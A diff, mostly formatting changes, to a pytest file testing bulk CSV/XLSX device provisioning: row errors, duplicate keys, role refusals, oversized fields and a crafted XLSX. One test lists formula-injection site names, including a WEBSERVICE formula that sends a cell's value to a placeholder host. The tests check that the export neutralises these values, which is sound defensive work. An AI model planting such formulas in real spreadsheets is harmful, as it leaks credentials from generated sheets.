@@ -1,5 +1,6 @@
 """Bulk device provisioning (CSV/XLSX) over the API and the service, on SQLite and PostgreSQL:
 valid rows created in one transaction with their tokens, bad rows reported, refusals by role and consent."""
+
 from __future__ import annotations
 
 import csv
@@ -13,13 +14,13 @@ from tests.world import build_world, login
 from wuxin.errors import Denied, InvalidInput, NotFound
 from wuxin.security.policy import Principal
 from wuxin.security.secrets import token_hash
-from wuxin.services.devices import provisioning
 from wuxin.services.credit.decisions import principal_for_username
+from wuxin.services.devices import provisioning
 
 HEADER = "key,device_type,site,source_mode,attr.run_threshold_a,attr.machine_id"
 BRACELET = "manufacturing.current_bracelet"
 BAD_ROWS = {  # spreadsheet row number (header = 1) -> (bad line, column, value)
-    52: (f"dev-0051,no.such_type,一号车间,bank_installed,5.0,M51", "device_type", "no.such_type"),
+    52: ("dev-0051,no.such_type,一号车间,bank_installed,5.0,M51", "device_type", "no.such_type"),
     203: (f"dev-0202,{BRACELET},一号车间,leased,5.0,M202", "source_mode", "leased"),
     404: (f"dev-0403,{BRACELET},二号车间,bank_installed,5.0,M403", "site", "二号车间"),
 }
@@ -43,9 +44,12 @@ def as_user(platform, username: str) -> Principal:
 
 
 def upload(live, headers, enterprise_id: int, body: bytes, name: str = "devices.csv", dry_run: bool = False):
-    return live.client.post(f"/api/v1/enterprises/{enterprise_id}/devices/import", headers=headers,
-                            params={"dry_run": "true"} if dry_run else None,
-                            files={"file": (name, body, "text/csv")})
+    return live.client.post(
+        f"/api/v1/enterprises/{enterprise_id}/devices/import",
+        headers=headers,
+        params={"dry_run": "true"} if dry_run else None,
+        files={"file": (name, body, "text/csv")},
+    )
 
 
 def test_500_rows_with_3_bad_create_497_devices_and_report_the_3(platform, live, world):
@@ -55,7 +59,8 @@ def test_500_rows_with_3_bad_create_497_devices_and_report_the_3(platform, live,
     report = response.json()
     assert (report["rows"], report["created_count"], report["refused_rows"]) == (500, 497, 3)
     assert [(e["row"], e["column"], e["value"]) for e in report["errors"]] == [
-        (row, column, value) for row, (_, column, value) in sorted(BAD_ROWS.items())]
+        (row, column, value) for row, (_, column, value) in sorted(BAD_ROWS.items())
+    ]
     assert all(e["reason"] for e in report["errors"])
     with platform.uow() as uow:
         stored = {d["key"]: d for d in uow.devices.list(world.factory)}
@@ -81,12 +86,14 @@ def test_dry_run_reports_and_creates_nothing(platform, live, world):
 
 
 def test_duplicate_keys_in_the_file_and_against_existing_devices_are_reported(platform, world):
-    body = (f"{HEADER}\n"
-            f"dev-a,{BRACELET},,bank_installed,,\n"
-            f"loom-01,{BRACELET},,bank_installed,,\n"       # already registered in the world
-            f"dev-a,{BRACELET},,bank_installed,,\n"         # the same key as row 2
-            f"truck-01,{BRACELET},,bank_installed,,\n"      # registered, to another enterprise
-            f"dev-b,{BRACELET},,bank_installed,9999,\n").encode()  # attribute past its max 2000 A
+    body = (
+        f"{HEADER}\n"
+        f"dev-a,{BRACELET},,bank_installed,,\n"
+        f"loom-01,{BRACELET},,bank_installed,,\n"  # already registered in the world
+        f"dev-a,{BRACELET},,bank_installed,,\n"  # the same key as row 2
+        f"truck-01,{BRACELET},,bank_installed,,\n"  # registered, to another enterprise
+        f"dev-b,{BRACELET},,bank_installed,9999,\n"
+    ).encode()  # attribute past its max 2000 A
     report = provisioning.provision_devices(platform, as_user(platform, "integrator"), world.factory, body, "d.csv")
     assert [e["row"] for e in report["errors"]] == [3, 4, 5, 6]
     by_row = {e["row"]: e for e in report["errors"]}
@@ -133,8 +140,7 @@ def test_a_file_with_a_bad_header_or_format_is_refused_whole(platform, world):
     with pytest.raises(InvalidInput, match="lacks the column"):
         provisioning.provision_devices(platform, integrator, world.factory, b"key,site\nx,y\n", "d.csv")
     with pytest.raises(InvalidInput, match="unknown column"):
-        provisioning.provision_devices(platform, integrator, world.factory,
-                                       f"{HEADER},colour\n".encode(), "d.csv")
+        provisioning.provision_devices(platform, integrator, world.factory, f"{HEADER},colour\n".encode(), "d.csv")
     with pytest.raises(InvalidInput, match="not an XLSX"):
         provisioning.provision_devices(platform, integrator, world.factory, b"not a zip", "d.xlsx")
     with pytest.raises(InvalidInput, match="neither .csv nor .xlsx"):
@@ -153,17 +159,19 @@ def test_refusals_by_role_and_consent(platform, live, world):
     assert upload(live, login(live.client, "other"), world.factory, body).status_code == 404
     assert upload(live, login(live.client, "admin"), 999_999, body).status_code == 404
     # without a token at all: 401
-    assert live.client.post(f"/api/v1/enterprises/{world.factory}/devices/import",
-                            files={"file": ("d.csv", body, "text/csv")}).status_code == 401
+    assert (
+        live.client.post(
+            f"/api/v1/enterprises/{world.factory}/devices/import", files={"file": ("d.csv", body, "text/csv")}
+        ).status_code
+        == 401
+    )
     with platform.uow() as uow:
         assert len(uow.devices.list(world.factory)) == 3 and len(uow.devices.list(world.fleet)) == 1
 
 
 def test_an_enterprise_user_provisions_only_enterprise_shared_devices(platform, world):
     owner = as_user(platform, "owner")
-    body = (f"{HEADER}\n"
-            f"own-1,{BRACELET},,enterprise_shared,,\n"
-            f"own-2,{BRACELET},,bank_installed,,\n").encode()
+    body = (f"{HEADER}\nown-1,{BRACELET},,enterprise_shared,,\nown-2,{BRACELET},,bank_installed,,\n").encode()
     report = provisioning.provision_devices(platform, owner, world.factory, body, "d.csv")
     assert [c["key"] for c in report["created"]] == ["own-1"]
     assert report["errors"][0]["row"] == 3 and report["errors"][0]["column"] == "source_mode"
@@ -227,14 +235,16 @@ def _xlsx_with_sheet_xml(sheet_xml: bytes, extra: dict | None = None) -> bytes:
     return out.getvalue()
 
 
-SHEET = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-         b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-         b'<dimension ref="A1:XFD1500"/><sheetData><row r="1">'
-         b'<c r="A1" t="inlineStr"><is><t>key</t></is></c><c r="B1" t="inlineStr"><is><t>device_type</t></is></c>'
-         b'<c r="C1" t="inlineStr"><is><t>source_mode</t></is></c></row><row r="2">'
-         b'<c r="A2" t="inlineStr"><is><t>x-9</t></is></c>'
-         b'<c r="B2" t="inlineStr"><is><t>manufacturing.current_bracelet</t></is></c>'
-         b'<c r="C2" t="inlineStr"><is><t>bank_installed</t></is></c></row><row r="1500"/></sheetData></worksheet>')
+SHEET = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+    b'<dimension ref="A1:XFD1500"/><sheetData><row r="1">'
+    b'<c r="A1" t="inlineStr"><is><t>key</t></is></c><c r="B1" t="inlineStr"><is><t>device_type</t></is></c>'
+    b'<c r="C1" t="inlineStr"><is><t>source_mode</t></is></c></row><row r="2">'
+    b'<c r="A2" t="inlineStr"><is><t>x-9</t></is></c>'
+    b'<c r="B2" t="inlineStr"><is><t>manufacturing.current_bracelet</t></is></c>'
+    b'<c r="C2" t="inlineStr"><is><t>bank_installed</t></is></c></row><row r="1500"/></sheetData></worksheet>'
+)
 
 
 def test_a_crafted_xlsx_is_refused_or_read_without_inflating(platform, world):
@@ -257,8 +267,9 @@ def test_a_crafted_xlsx_is_refused_or_read_without_inflating(platform, world):
 
 def test_a_huge_csv_field_or_a_superscript_site_is_no_server_error(platform, live, world):
     headers = login(live.client, "admin")
-    huge = (f"{HEADER}\ndev-1,{BRACELET},,bank_installed,5.0,M1\n"
-            f"dev-2,{BRACELET},,bank_installed,5.0,\"{'x' * 140_000}\"\n").encode()
+    huge = (
+        f'{HEADER}\ndev-1,{BRACELET},,bank_installed,5.0,M1\ndev-2,{BRACELET},,bank_installed,5.0,"{"x" * 140_000}"\n'
+    ).encode()
     response = upload(live, headers, world.factory, huge)
     assert response.status_code == 422, response.text
     assert "line 3" in response.json()["message"] and "field larger than field limit" in response.json()["message"]
@@ -274,8 +285,10 @@ def test_the_credentials_sheet_neutralises_formulas_in_site_names(platform, worl
     hostile = ['=WEBSERVICE("http://x/?"&F2)', "+1+1", "@SUM(A1)", "-2+3"]
     for name in hostile:
         registry.add_site(platform, None, world.factory, name, "苏州")
-    body = HEADER + "".join(f"\nf-{i},{BRACELET},\"{name.replace(chr(34), chr(34) * 2)}\",bank_installed,5.0,M"
-                            for i, name in enumerate(hostile))
+    body = HEADER + "".join(
+        f'\nf-{i},{BRACELET},"{name.replace(chr(34), chr(34) * 2)}",bank_installed,5.0,M'
+        for i, name in enumerate(hostile)
+    )
     report = provisioning.provision_devices(platform, None, world.factory, body.encode(), "d.csv")
     assert report["errors"] == [] and report["created_count"] == 4
     rows = list(csv.reader(io.StringIO(provisioning.credentials_csv(report))))[1:]
